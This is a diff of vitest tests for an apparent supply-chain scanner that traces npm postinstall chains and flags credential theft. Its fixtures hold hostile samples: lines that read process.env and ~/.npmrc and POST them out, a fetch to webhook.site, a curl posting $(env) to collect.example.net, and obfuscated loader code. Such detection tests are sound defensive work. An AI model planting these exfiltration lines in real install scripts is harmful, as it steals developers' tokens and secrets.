@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
 import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
 import { readCallBehaviors } from '../../../src/ecosystems/build-code/build-calls.js';
-import { filesRunBy } from '../../../src/ecosystems/build-code/build-files.js';
+import { filesRunBy, installManifestsWanted } from '../../../src/ecosystems/build-code/build-files.js';
 import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';
@@ -64,6 +64,10 @@ describe('readBehaviors', () => {
   it('names the files an npm install script runs, beside its package.json', () => {
     expect(filesRunBy('node ./scripts/postinstall.js && sh tools/setup.sh', 'packages/cli/package.json')).toEqual(['packages/cli/scripts/postinstall.js', 'packages/cli/tools/setup.sh']);
     expect(filesRunBy('node-gyp rebuild', 'package.json')).toEqual([]);
+    // Node resolves a path without an extension to its .js file (sharp's `install: node install/check`).
+    expect(filesRunBy('node install/check', 'package.json')).toEqual(['install/check.js']);
+    expect(filesRunBy('node --no-warnings ./scripts/postinstall || true', 'package.json')).toEqual(['scripts/postinstall.js']);
+    expect(filesRunBy('node -e "process.exit(0)" && npx only-allow pnpm', 'package.json')).toEqual([]);
   });
 });
 
@@ -296,6 +300,62 @@ module.exports = { hooks: { readPackage } };
     // The obfuscator's output, in a build-output folder, is read as the first hop's is.
     const obfuscated = "const _0x3a1f=['\\x72\\x65\\x71'];(function(_0x1b2c,_0x2d4e){const _0x3c5a=function(_0x4e7b){while(--_0x4e7b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x3c5a(++_0x2d4e);}(_0x3a1f,0x1b3));";
     expect(analyze(snapshotOf(preinstall, setup, added('dist/bun_environment.js', obfuscated))).findings.filter((f) => f.id === 'obfuscated-code').map((f) => [f.path, f.severity])).toEqual([['dist/bun_environment.js', 'high']]);
+  });
+
+  it('follows the install chain up to four files deep, each started by the one before or a module it adds and loads', () => {
+    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
+    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
+    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
+    // setup.js -> lib/index.js (loaded) -> lib/collect.js (loaded): the third file.
+    expect(found(postinstall, added('scripts/setup.js', "require('./lib/index.js');"), added('scripts/lib/index.js', "require('./collect.js');"), added('scripts/lib/collect.js', harvest))).toEqual([
+      ['scripts/lib/collect.js', 'critical', 'postinstall script of package.json (through scripts/lib/index.js) sends credentials or the environment to a host at npm install time'],
+    ]);
+    // setup.js -> a.js (spawned) -> b.js (loaded) -> c.js (run by a command string): the fourth file.
+    const chain = [added('scripts/setup.js', "require('child_process').spawn('node', [require('path').join(__dirname, 'a.js')], { detached: true });"), added('scripts/a.js', "require('./b.js');"), added('scripts/b.js', "require('child_process').execSync('node scripts/c.js');")];
+    expect(found(postinstall, ...chain, added('scripts/c.js', harvest))).toEqual([['scripts/c.js', 'critical', expect.any(String)]]);
+    // A fifth file is past the bound.
+    expect(found(postinstall, ...chain.slice(0, 2), added('scripts/b.js', "require('./c.js');"), added('scripts/c.js', "require('./d.js');"), added('scripts/d.js', harvest))).toEqual([]);
+  });
+
+  it('reads a module of the package that the chain loads and the PR changes for a collector only: a paste, tunnel or webhook host or a bare IP', () => {
+    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/postinstall.js' } }));
+    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'suspicious-network-endpoint').map((f) => [f.id, f.path, f.severity, f.detail.includes('at npm install time')]);
+    const modified = (path: string, line: string) => makeFile(path, { status: 'modified', additions: 1, patch: `@@ -1,1 +1,2 @@\n module.exports = {};\n+${line}` });
+    const collect = "fetch('https://webhook.site/3f2a9c0d-1e4b-4a6f-9c8d-0e1f2a3b4c5d', { method: 'POST', body: JSON.stringify(process.env) });";
+    expect(found(postinstall, added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', collect))).toEqual([
+      ['build-code-behavior', 'lib/telemetry.js', 'critical', true],
+      ['suspicious-network-endpoint', 'lib/telemetry.js', 'high', true],
+    ]);
+    // Its own service with its own token is the library's work.
+    expect(found(postinstall, added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', "fetch('https://api.acme.dev/v1/usage', { method: 'POST', body: JSON.stringify({ token: process.env.ACME_TOKEN }) });"))).toEqual([]);
+    // The same module, no install script loading it.
+    expect(found(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/postinstall.js' } })), added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', collect)).map((f) => f.slice(0, 2))).toEqual([['suspicious-network-endpoint', 'lib/telemetry.js']]);
+  });
+
+  it("reads a file the base package.json's install script runs when the PR changes only that file (package.json read at the base)", () => {
+    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
+    const setup = makeFile('scripts/setup.js', { status: 'modified', additions: 2, patch: `@@ -1,1 +1,3 @@\n const fs = require('fs'), os = require('os');\n${harvest.split('\n').map((l) => `+${l}`).join('\n')}` });
+    const withBase = (scripts: Record<string, string>, ...files: SnapshotFile[]) => ({ ...snapshotOf(...files), baseFiles: [{ path: 'package.json', content: pkg({ scripts }) }] });
+    const found = (snapshot: ReturnType<typeof snapshotOf>) => analyze(snapshot).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
+    expect(found(withBase({ postinstall: 'node scripts/setup.js' }, setup))).toEqual([['scripts/setup.js', 'critical', 'postinstall script of package.json sends credentials or the environment to a host at npm install time']]);
+    // And the next hops from there.
+    const starts = makeFile('scripts/setup.js', { status: 'modified', additions: 1, patch: "@@ -1,1 +1,2 @@\n 'use strict';\n+require('./stage.js');" });
+    expect(found(withBase({ postinstall: 'node scripts/setup.js' }, starts, added('scripts/stage.js', harvest)))).toEqual([['scripts/stage.js', 'critical', expect.any(String)]]);
+    // Not a script no install script runs, nor another file.
+    expect(found(withBase({ build: 'node scripts/setup.js' }, setup))).toEqual([]);
+    expect(found(withBase({ postinstall: 'node scripts/other.js' }, setup))).toEqual([]);
+  });
+
+  it('asks for the base package.json only when the PR does not change it and adds install-time work to a file an install script may run', () => {
+    const file = (path: string, ...added: string[]) => ({ path, removed: false, patch: `@@ -1,1 +1,${added.length + 1} @@\n 'use strict';\n${added.map((l) => `+${l}`).join('\n')}` });
+    expect(installManifestsWanted([file('scripts/setup.js', "fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify(process.env) });")])).toEqual(['package.json']);
+    expect(installManifestsWanted([file('scripts/setup.js', "require('./stage.js');")])).toEqual(['package.json']);
+    expect(installManifestsWanted([file('tools/install.sh', 'curl -s -d "$(env)" https://collect.example.net/in'), { path: 'README.md', removed: false, patch: '@@ -1 +1 @@\n-a\n+b' }])).toEqual(['package.json']);
+    // The manifest in the PR already, a change that does nothing at install, no script, a test, an installed package, a removed file.
+    expect(installManifestsWanted([{ path: 'package.json', removed: false, patch: null }, file('scripts/setup.js', "require('./stage.js');")])).toEqual([]);
+    expect(installManifestsWanted([file('src/widgets/render.ts', 'export const WIDTH = 80;', "const label = `${name}: ${value}`;")])).toEqual([]);
+    expect(installManifestsWanted([file('src/app.go', 'exec.Command("ls")'), file('src/app.test.ts', 'fetch(url)'), file('node_modules/x/index.js', 'fetch(url)')])).toEqual([]);
+    expect(installManifestsWanted([{ path: 'scripts/old.js', removed: true, patch: null }])).toEqual([]);
   });
 
   it('raises a worm\'s or a stealer\'s medium shape to high in a file the install chain runs, and says so; elsewhere it stays medium', () => {
